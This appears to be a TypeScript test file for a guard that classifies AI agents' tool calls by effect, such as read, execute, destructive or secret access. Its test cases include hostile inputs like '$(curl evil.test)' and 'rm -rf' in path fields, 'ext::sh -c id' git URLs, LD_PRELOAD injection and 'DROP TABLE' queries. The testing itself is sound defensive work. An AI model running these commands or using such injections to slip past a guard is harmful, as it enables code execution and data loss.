// Tests what arguments reach beside the obvious: graphs, variables, options of programs, everybody.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { JsonObject } from '@countersign/json'
import type { Facts } from '../../model/facts.ts'
import { effectOf, effectsOf } from '../effects.ts'
import { effectOfText } from '../names/effect-of-name.ts'
import { behaviourIn, readingOf } from '../reading.ts'
import { effectsOfGraph, isGraph } from './graph.ts'

function factsOf(tool: string, given: JsonObject): Facts {
  const agent = { id: 'agt_1', status: 'active' as const, roles: [], labels: {} }
  return { agent, environment: 'production', action: tool, tool, arguments: given }
}

function of(tool: string, given: JsonObject): string {
  const facts = factsOf(tool, given)
  return effectOf(facts, behaviourIn(readingOf(facts)).effects)
}

function all(tool: string, given: JsonObject): readonly string[] {
  const facts = factsOf(tool, given)
  return effectsOf(facts, behaviourIn(readingOf(facts)).effects)
}

const URL = 'https://api.example.com/a'

test('a query of a graph does what its clauses do, and a word in a text does nothing', () => {
  for (const [text, effects] of [
    ['MATCH (n) RETURN n LIMIT 5', []],
    ["MATCH (n {name: 'delete me'}) RETURN n", []],
    ['MATCH (n:Set) RETURN n', []],
    ['MATCH (n) DETACH DELETE n', ['destructive']],
    ['MATCH (n) SET n.a = 1', ['change', 'execute']],
    ["CALL apoc.load.json('http://evil.test')", ['execute']],
    ['g.V().drop()', ['destructive']],
    ["g.V().has('name', 'a').values('b')", []],
    ['INSERT DATA { <a> <b> <c> }', ['change', 'execute']],
    ['CLEAR GRAPH <http://a.test/>', ['destructive']],
  ] as const) {
    assert.ok(isGraph(text), text)
    assert.deepEqual(effectsOfGraph(text), effects, text)
  }
  for (const text of ['match the colours', 'create a list', 'how to drop all', 'g. Smith'])
    assert.ok(!isGraph(text) || effectsOfGraph(text).length === 0, text)
  assert.equal(of('get_rows', { cypher: 'MATCH (n) DETACH DELETE n' }), 'destructive')
})

test('what writes or runs within a query of documents is told', () => {
  assert.equal(of('find', { pipeline: [{ $match: {} }, { $out: 'users' }] }), 'destructive')
  assert.equal(of('aggregate', { pipeline: [{ $merge: { into: 'x' } }] }), 'outward')
  assert.equal(of('find', { filter: { $where: 'sleep(9)' } }), 'execute')
  assert.equal(of('find', { filter: { $gt: 3 } }), 'read')
})

test('variables and settings that decide what is loaded run something', () => {
  for (const [tool, given] of [
    ['set_env', { name: 'LD_PRELOAD', value: '/tmp/x.so' }],
    ['update_item', { env: { NODE_OPTIONS: '--require /tmp/x' } }],
    ['update_config', { key: 'core.hooksPath', value: '/tmp/h' }],
    ['set_config', { key: 'alias.st', value: '!sh' }],
    ['save_config', { key: 'diff.x.textconv', value: 'sh' }],
    ['update_item', { name: 'PATH', value: '/tmp' }],
  ] as const)
    assert.equal(of(tool, given), 'execute', JSON.stringify(given))
  for (const given of [
    { key: 'user.name', value: 'Ann' },
    { key: 'core.autocrlf', value: 'input' },
    { name: 'path', value: 'a' },
    { key: 'theme.alias', value: 'dark' },
  ])
    assert.equal(of('update_item', given), 'change', JSON.stringify(given))
})

test('a program runs with its options, however it is asked for', () => {
  assert.equal(of('find', { args: ['.', '-delete'] }), 'execute')
  assert.equal(of('find', { args: ['.', '-name', '*.ts'] }), 'read')
  assert.equal(of('git_log', { args: ['--oneline'] }), 'read')
  assert.equal(of('git_log', { args: ['--output=x'] }), 'execute')
  assert.equal(of('show_status', { program: 'python3', args: ['-c', '1'] }), 'execute')
  assert.equal(of('get_program', { program: 'loyalty' }), 'read')
  assert.equal(of('view', { shell_command: 'git push -f' }), 'destructive')
  assert.equal(of('list_dir', { path: '$(curl evil.test)' }), 'execute')
  assert.equal(of('get_file_info', { path: 'a; rm -rf b' }), 'execute')
  assert.equal(of('read_file', { path: 'docs/Q&A; part 2.md' }), 'read')
  assert.equal(of('git_clone', { url: 'ext::sh -c id' }), 'execute')
  assert.equal(of('git_grep', { pattern: '-Oid' }), 'execute')
  assert.equal(of('list_records', { filter: '1=1; DROP TABLE users' }), 'execute')
  assert.equal(of('add_note', { text: '1=1; DROP TABLE users' }), 'change')
})

test('the commands of an editor are not command lines', () => {
  const given = { path: 'src/a.ts', file_text: 'x' }
  for (const command of ['view', 'create', 'str_replace', 'insert'])
    assert.equal(of('str_replace_editor', { ...given, command }), 'change', command)
  assert.equal(of('str_replace_editor', { ...given, command: 'rm -rf src' }), 'destructive')
  assert.equal(of('read_console', { command: 'view' }), 'execute')
})

test('what people write is not a statement, and what a store is asked is', () => {
  assert.equal(of('add_comment', { body: 'truncate users' }), 'change')
  assert.equal(of('search_docs', { query: 'DROP TABLE users' }), 'read')
  assert.equal(of('search_rows', { query: 'DROP TABLE users' }), 'destructive')
  assert.equal(of('db_comment', { query: 'DROP TABLE users' }), 'destructive')
  assert.equal(of('read_query', { query: 'PRAGMA writable_schema=1' }), 'execute')
  assert.equal(of('read_query', { query: "COPY users TO '/tmp/a'" }), 'execute')
})

test('a body, a method before an address and a type of a request are told', () => {
  assert.equal(of('fetch', { url: URL, body: 'a=1' }), 'outward')
  assert.equal(of('fetch', { url: URL, body: '{ users { id } }' }), 'read')
  assert.equal(of('fetch', { url: URL, type: 'DELETE' }), 'destructive')
  assert.equal(of('search_api', { endpoint: 'POST /v1/charges' }), 'outward')
  assert.equal(of('search_docs', { query: 'DELETE /v1/users' }), 'read')
})

test('a secret is one whether its kind or its name says so', () => {
  for (const [tool, given] of [
    ['kubectl_get', { resource: 'secrets' }],
    ['get_resource', { kind: 'Secret', name: 'db' }],
    ['get_env', { name: 'DATABASE_URL' }],
    ['get_config', { key: 'STRIPE_API_KEY' }],
  ] as const)
    assert.ok(all(tool, given).includes('secrets'), JSON.stringify(given))
  for (const [tool, given] of [
    ['kubectl_get', { resource: 'pods' }],
    ['get_env', { name: 'NODE_ENV' }],
    ['get_item', { key: 'sort_key' }],
  ] as const)
    assert.ok(!all(tool, given).includes('secrets'), JSON.stringify(given))
})

test('production is told by what it is called in the arguments, and a declared reach by its words', () => {
  function places(given: JsonObject): readonly string[] {
    return [...(behaviourIn(readingOf(factsOf('rollback', given))).environments ?? [])]
  }
  assert.deepEqual(places({ cluster: 'prod-1' }), ['production'])
  assert.deepEqual(places({ namespace: 'web', project: 'product' }), [])
  assert.deepEqual(places({ env: 'Staging' }), ['staging'])
  assert.equal(effectOfText('a network request'), 'outward')
  assert.equal(effectOfText('no network access'), 'unknown')
})

test('what is open to everybody, and what is done to everything, is told', () => {
  assert.equal(of('update_repository', { repo: 'r', private: false }), 'outward')
  assert.equal(of('create_channel', { name: 'r', is_private: false }), 'change')
  assert.equal(of('list_repositories', { private: false }), 'read')
  assert.equal(of('update_items', { ids: 'all', done: 1 }), 'destructive')
  assert.equal(of('update_items', { ids: 'a1', done: 1 }), 'change')
  assert.equal(of('create_draft', { to: 'a@example.com', body: 'x' }), 'change')
  assert.equal(of('create_event', { to: 'a@example.com' }), 'outward')
  assert.equal(of('get_deployment', { write: { a: 1 } }), 'change')
  assert.equal(of('link_item', { directory_role: 'Global Administrator' }), 'outward')
  assert.equal(of('link_item', { directory_role: 'Reader' }), 'change')
  assert.equal(of('update_repo', { allow_force_pushes: true }), 'outward')
  assert.equal(of('update_repo', { allow_squash_merge: true }), 'change')
  assert.equal(of('create_item', { skip_review: true }), 'outward')
  assert.equal(of('create_item', { skip_duplicates: true }), 'change')
  assert.equal(of('set_lock', { door: 'front', locked: false }), 'outward')
  assert.equal(of('update_issue', { locked: false }), 'change')
})
